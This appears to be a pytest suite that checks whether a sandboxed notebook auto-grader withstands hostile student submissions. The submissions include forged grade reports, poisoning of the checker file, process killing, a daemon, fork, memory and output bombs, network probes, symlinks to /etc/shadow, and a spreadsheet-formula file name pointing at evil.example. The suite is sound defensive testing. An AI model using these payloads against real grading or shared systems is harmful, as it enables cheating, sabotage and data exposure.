"""Submissions that attack the class check, run through the real sandbox (bubblewrap).

One class of honest and hostile notebooks is checked once (module fixture).  Each
attack must get its own status, the honest students beside it their true grade, and
nothing outside the students' private folders may change: the course (``helpers``,
the tool, the virtual environment), the submissions and the machine's ``/tmp`` are
hashed before and after, and no process of a sandbox may be left.

Every attack here is one the issue reproduced against the unsandboxed class check
(``git worktree add /tmp/old33 <base>``): there, the forged report and the poisoned
or emptied checker were graded pass, the report with a bad line stopped the whole
run, the secret and the teacher's processes were visible, the classmate's notebook
was overwritten, the daemon, the canary's killer and the network connection
succeeded, the memory bomb ran, the output bomb grew the teacher's process by its
size, the symlink put /etc/shadow into the table, the symlink loop stopped the run,
and the formula name landed unescaped.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest
from class_check_support import (
    CHECK,
    LIMIT_ARGS,
    changed,
    needs_sandbox,
    notebook,
    processes_matching,
    sandbox_leftovers,
    tree_hash,
    xcov_solution,
    xcov_stub,
    xcov_wrong,
)
from conftest import load_script

ROOT = Path(__file__).resolve().parent.parent
class_check = load_script(ROOT / "tools" / "class_check.py")

pytestmark = needs_sandbox

LIMITS = class_check.Limits(**LIMIT_ARGS)
TOKEN = f"hf-canary-{os.getpid()}-{time.time_ns()}"
SECRET = f"hf-secret-token-{time.time_ns()}"
FORMULA = '=HYPERLINK("evil.example","click")'  # a file name holds no slash


def file_hash(path: Path) -> str:
    """The SHA-256 of one file."""
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _hwm_mb() -> float:
    """The peak resident memory of this process (VmHWM), in MB."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM in /proc/self/status")


def _attacks(folder: Path, port: int, outside: Path) -> None:
    """Write the class: honest students and one notebook per attack."""
    checks_py = ROOT / "helpers" / "checks.py"
    notebook(folder / "honest_ada.ipynb", xcov_solution(), CHECK)
    notebook(folder / "honest_ben.ipynb", xcov_wrong(), CHECK)
    notebook(folder / "honest_cy.ipynb", xcov_stub(), CHECK)
    # a forged report: no code at all, a "pass" line wherever a report could go
    notebook(folder / "forged_report.ipynb", """\
import json, os
line = json.dumps({"exercise": "xcov_penalty", "status": "pass", "passed": 4, "total": 4})
for path in [os.environ.get("HF_CHECK_REPORT", ""), "checks.jsonl", "../checks.jsonl"]:
    try:
        open(path, "a").write(line + "\\n")
    except OSError:
        pass""", CHECK)
    # a forged result: the export cells send "correct" numbers for the learner's inputs
    forged = _forged_results()
    notebook(folder / "forged_result.ipynb", f"""\
#| export
import os, sys
def xcov_penalty(y, z):
    return 0.0
_fd = int(sys.argv[sys.argv.index("--result-fd") + 1]) if "--result-fd" in sys.argv else None
if _fd is not None:
    os.write(_fd, {json.dumps(forged).encode()!r})
    os._exit(0)""", CHECK)
    # the course's own solution imported instead of written
    notebook(folder / "copy_solution.ipynb", "#| export\nfrom helpers.papers.xcov import xcov_penalty",
             CHECK)
    # the poisoned checker: three lines that make every check pass, appended to checks.py
    notebook(folder / "poison_checker.ipynb", f"""\
with open({str(checks_py)!r}, "a") as f:
    f.write("\\nclass Verdict(Verdict):\\n    def close(self, *a, **k):\\n"
            "        self.assertions += 1\\n")""")
    notebook(folder / "poison_empty.ipynb", f"open({str(checks_py)!r}, 'w').close()")
    notebook(folder / "poison_exports.ipynb", f"""\
#| export
def xcov_penalty(y, z):
    return 0.0
with open({str(checks_py)!r}, "a") as f:
    f.write("\\ndef judge(*a, **k):\\n    raise SystemExit\\n")""", CHECK)
    # a classmate's notebook overwritten, a file dropped outside
    notebook(folder / "overwrite.ipynb", f"""\
import pathlib
errors = []
for path in [{str(folder / "honest_ada.ipynb")!r}, {str(outside / "escaped.txt")!r},
             "/tmp/{TOKEN}-escaped.txt", {str(ROOT / "escaped.txt")!r}]:
    try:
        pathlib.Path(path).write_text("overwritten")
    except OSError as err:
        errors.append(type(err).__name__)
raise RuntimeError("wrote " + str(4 - len(errors)) + " of 4: " + ",".join(errors))""")
    # the teacher killed: every process named like the canary, then the parent
    notebook(folder / "kill_teacher.ipynb", f"""\
import os, signal
killed = 0
for pid in os.listdir("/proc"):
    try:
        if pid.isdigit() and {TOKEN!r} in open(f"/proc/{{pid}}/cmdline").read():
            os.kill(int(pid), signal.SIGKILL)
            killed += 1
    except OSError:
        pass
os.kill(os.getppid(), signal.SIGKILL)""", "print('still here')")
    # a daemon left behind, trying to poison every later run
    notebook(folder / "daemon.ipynb", f"""\
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time\\nwhile True:\\n"
                  "    try: open({str(checks_py)!r}, 'a').write('#')\\n"
                  "    except OSError: pass\\n"
                  "    time.sleep(0.2)", "{TOKEN}-daemon"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("daemon started")""")
    # the environment read: a token of the teacher's shell
    notebook(folder / "env_read.ipynb", """\
import os
raise RuntimeError("secret=" + os.environ.get("HF_TEST_SECRET", "absent") + " vars="
                   + str(len(os.environ)) + " home=" + os.environ.get("HOME", ""))""")
    # the /proc walk: the teacher's processes and folder
    notebook(folder / "proc_walk.ipynb", f"""\
import os
lines = []
for pid in os.listdir("/proc"):
    try:
        lines.append(open(f"/proc/{{pid}}/cmdline").read())
    except OSError:
        pass
seen = "; ".join([
    "processes=" + str(len(lines)),
    "pytest=" + str(any("pytest" in c for c in lines)),
    "canary=" + str(any({TOKEN!r} in c for c in lines)),
    "course=" + str(os.path.exists({str(ROOT / "tools" / "student_version.py")!r})),
])
raise RuntimeError(seen)""")
    notebook(folder / "memory_bomb.ipynb", "import numpy as np\nhoard = np.empty(6 << 30, np.uint8)")
    notebook(folder / "output_bomb.ipynb", """\
import os
chunk = b"x" * (1 << 20)
for _ in range(200):
    os.write(2, chunk)
print("y" * (1 << 20))""")
    notebook(folder / "fork_bomb.ipynb", """\
import os, time
children = 0
while children < 5000:
    if os.fork() == 0:
        time.sleep(120)
        os._exit(0)
    children += 1
raise RuntimeError("no limit: forked 5000")""")
    notebook(folder / "network.ipynb", f"""\
import socket
results = []
for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
    try:
        socket.create_connection((host, port), timeout=3).sendall(b"{TOKEN}")
        results.append(host + " open")
    except OSError as err:
        results.append(host + " " + type(err).__name__)
raise RuntimeError("; ".join(results))""")
    # a report with a bad line (the old check crashed on it), and junk sent as results
    notebook(folder / "malformed_report.ipynb", """\
import os
open(os.environ.get("HF_CHECK_REPORT", "report.jsonl"), "a").write("not json\\n")""",
             """\
#| export
import os, sys
def xcov_penalty(y, z):
    return 0.0
if "--result-fd" in sys.argv:
    os.write(int(sys.argv[sys.argv.index("--result-fd") + 1]), b"{not json" * 1000)
    os._exit(0)""", CHECK)
    notebook(folder / "results_bomb.ipynb", """\
#| export
import os, sys
def xcov_penalty(y, z):
    return 0.0
if "--result-fd" in sys.argv:
    fd = int(sys.argv[sys.argv.index("--result-fd") + 1])
    for _ in range(64):
        os.write(fd, b"[" * (1 << 20))
    os._exit(0)""", CHECK)
    # symlinks: to a secret, to /etc/shadow, a loop, a folder loop, a big folder
    (outside / "secret.txt").write_text(SECRET + " " * 100, encoding="utf-8")
    (folder / "leak_secret.ipynb").symlink_to(outside / "secret.txt")
    (folder / "leak_shadow.ipynb").symlink_to("/etc/shadow")
    (folder / "loop.ipynb").symlink_to("loop.ipynb")
    (folder / "folder_loop").symlink_to(".")
    (folder / "usr_link").symlink_to("/usr")
    # a formula for a name; not a notebook with a secret in it
    notebook(folder / f"{FORMULA}.ipynb", "print('hello')")
    (folder / "malformed.ipynb").write_text('{"cells": [' + json.dumps(SECRET), encoding="utf-8")
    (folder / "not_a_notebook.ipynb").write_text(json.dumps({"cells": SECRET}), encoding="utf-8")


def _forged_results() -> dict:
    """What a forger sends: the true outputs for the learner's (published) inputs."""
    from helpers import checks
    from helpers.papers.xcov import xcov_penalty

    inputs = checks.make_inputs("xcov_penalty", checks.LEARNER_SEED)
    results = checks.run_probes("xcov_penalty", xcov_penalty, inputs)
    assert checks.judge("xcov_penalty", inputs, results).status == "pass"
    return {"exercises": {"xcov_penalty": {"results": checks.encode_probe_results(results)}}}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    outside = tmp_path_factory.mktemp("outside")
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    connections: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            connections.append(conn.recv(100))
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    _attacks(folder, server.getsockname()[1], outside)
    canary = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", TOKEN])
    os.environ["HF_TEST_SECRET"] = SECRET
    course = {"helpers": tree_hash(ROOT / "helpers"), "tool": file_hash(ROOT / "tools" / "class_check.py")}
    venv = tree_hash(Path(sys.prefix), stat_only=True)
    before = {"course": course, "venv": venv, "submissions": tree_hash(folder),
              "outside": tree_hash(outside), "tmp": sorted(os.listdir("/tmp"))}
    hwm = _hwm_mb()
    start = time.monotonic()
    try:
        results = class_check.check_class(folder, out=outside / "table", limits=LIMITS, jobs=2)
    finally:
        del os.environ["HF_TEST_SECRET"]
        seconds = time.monotonic() - start
        stop.set()
    after = {"course": {"helpers": tree_hash(ROOT / "helpers"),
                        "tool": file_hash(ROOT / "tools" / "class_check.py")},
             "venv": tree_hash(Path(sys.prefix), stat_only=True),
             "submissions": tree_hash(folder), "outside": tree_hash(outside),
             "tmp": sorted(os.listdir("/tmp"))}
    time.sleep(1)
    state = {"canary_alive": canary.poll() is None,
             "leftovers": sandbox_leftovers(class_check.last_uids)
             + processes_matching(f"{TOKEN}-daemon"),
             "connections": list(connections), "hwm_growth_mb": _hwm_mb() - hwm,
             "seconds": seconds}
    canary.kill()
    server.close()
    print(class_check.format_table(results))
    return folder, outside, {r.student: r for r in results}, before, after, state


def _row(attacked, name):
    return attacked[2][name]


def test_honest_students_get_their_true_grade(attacked):
    rows = attacked[2]
    assert (rows["honest_ada"].status, rows["honest_ada"].exercises) == ("ran", {"xcov_penalty": "pass"})
    assert (rows["honest_ben"].status, rows["honest_ben"].exercises) == ("ran", {"xcov_penalty": "fail"})
    assert rows["honest_ben"].counts == {"xcov_penalty": "1 of 4"}
    assert (rows["honest_cy"].status, rows["honest_cy"].exercises) == (
        "ran", {"xcov_penalty": "not written"})


def test_a_forged_report_is_not_a_grade(attacked):
    row = _row(attacked, "forged_report")
    assert row.exercises == {"xcov_penalty": "not written"}
    assert row.failed["xcov_penalty"] == ["the #| export cells define no `xcov_penalty`"]
    assert row.status == "error" and "NameError" in row.detail


def test_forged_results_fail_on_inputs_drawn_for_this_run(attacked):
    row = _row(attacked, "forged_result")
    assert row.exercises == {"xcov_penalty": "fail"}, row
    assert row.counts["xcov_penalty"] in {"0 of 4", "1 of 4"}


def test_the_courses_solutions_are_hidden_from_the_checks(attacked):
    row = _row(attacked, "copy_solution")
    assert row.status == "ran" and row.exercises == {"xcov_penalty": "fail"}, row
    assert "ModuleNotFoundError" in row.failed["xcov_penalty"][0], row


def test_the_checker_cannot_be_poisoned_or_emptied(attacked):
    refused = re.compile("Read-only file system|Permission denied")
    for name in ("poison_checker", "poison_empty"):
        row = _row(attacked, name)
        assert row.status == "error" and refused.search(row.detail), row
    row = _row(attacked, "poison_exports")
    assert row.exercises == {"xcov_penalty": "fail"}, row
    assert refused.search(row.failed["xcov_penalty"][0]), row
    assert attacked[3]["course"] == attacked[4]["course"], changed(
        attacked[3]["course"]["helpers"], attacked[4]["course"]["helpers"])


def test_classmates_and_the_machine_are_out_of_reach(attacked):
    row = _row(attacked, "overwrite")
    # only the sandbox's own /tmp takes the write; the others do not exist or are not writable
    assert row.status == "error" and row.detail.startswith(
        "code cell 1: RuntimeError: wrote 1 of 4:"), row
    _, _, _, before, after, _ = attacked
    assert changed(before["submissions"], after["submissions"]) == []
    assert changed(before["outside"], after["outside"]) == ["table", "table/class_check.csv",
                                                            "table/class_check.html"]
    assert changed(before["venv"], after["venv"]) == []
    assert not any(TOKEN in name for name in after["tmp"])
    assert not (ROOT / "escaped.txt").exists()


def test_the_teacher_cannot_be_killed(attacked):
    row = _row(attacked, "kill_teacher")
    assert row.status == "error" and "ended without a result (killed by signal 9" in row.detail, row
    assert _row(attacked, "honest_ada").exercises == {"xcov_penalty": "pass"}
    assert attacked[5]["canary_alive"]


def test_no_process_outlives_its_run(attacked):
    assert _row(attacked, "daemon").status == "ran"
    assert _row(attacked, "fork_bomb").status == "error"
    assert attacked[5]["leftovers"] == []


def test_the_environment_is_scrubbed(attacked):
    row = _row(attacked, "env_read")
    assert "secret=absent" in row.detail and "home=/home/student" in row.detail, row
    table = (attacked[1] / "table" / "class_check.csv").read_text(encoding="utf-8")
    assert SECRET not in table


def test_the_proc_walk_sees_only_the_sandbox(attacked):
    row = _row(attacked, "proc_walk")
    assert "pytest=False; canary=False; course=False" in row.detail, row


def test_memory_processes_and_output_are_limited(attacked):
    assert "MemoryError" in _row(attacked, "memory_bomb").detail
    fork = _row(attacked, "fork_bomb")
    assert "BlockingIOError" in fork.detail or "Resource temporarily unavailable" in fork.detail, fork
    assert _row(attacked, "output_bomb").status == "ran"
    assert attacked[5]["hwm_growth_mb"] < 150, attacked[5]


def test_no_network(attacked):
    row = _row(attacked, "network")
    assert "127.0.0.1 ConnectionRefusedError" in row.detail, row
    assert "1.1.1.1 open" not in row.detail
    assert attacked[5]["connections"] == []


def test_malformed_results_are_no_result_not_a_crash(attacked):
    for name in ("malformed_report", "results_bomb"):
        row = _row(attacked, name)
        assert row.exercises == {"xcov_penalty": "no result"}, row
        assert "malformed results" in row.failed["xcov_penalty"][0], row
    assert _row(attacked, "malformed").status == "malformed"
    assert _row(attacked, "not_a_notebook").status == "malformed"


def test_symlinks_are_refused_and_never_read(attacked):
    rows = attacked[2]
    for name in ("leak_secret", "leak_shadow", "loop"):
        assert (rows[name].status, rows[name].detail) == (
            "symlink", "a symbolic link: refused, not followed")
    assert not any(name.startswith(("folder_loop", "usr_link")) for name in rows)
    table = (attacked[1] / "table" / "class_check.csv").read_text(encoding="utf-8")
    html = (attacked[1] / "table" / "class_check.html").read_text(encoding="utf-8")
    for text in (table, html):
        assert SECRET not in text and "root:" not in text


def test_a_formula_name_is_escaped(attacked):
    assert _row(attacked, FORMULA).status == "ran"
    with open(attacked[1] / "table" / "class_check.csv", newline="", encoding="utf-8") as f:
        names = [row[0] for row in csv.reader(f)]
    assert "'" + FORMULA in names and FORMULA not in names
    assert not any(n[:1] in "=+-@" for n in names)


def test_every_submission_has_a_row(attacked):
    folder = attacked[0]
    expected = sorted(p.name[:-6] for p in folder.iterdir() if p.name.endswith(".ipynb"))
    assert sorted(attacked[2]) == expected
    html = (attacked[1] / "table" / "class_check.html").read_text(encoding="utf-8")
    assert html.count("<tr>") == len(expected) + 1
    nb = nbformat.read(folder / "honest_ada.ipynb", as_version=4)
    assert nb.cells[0].outputs == []
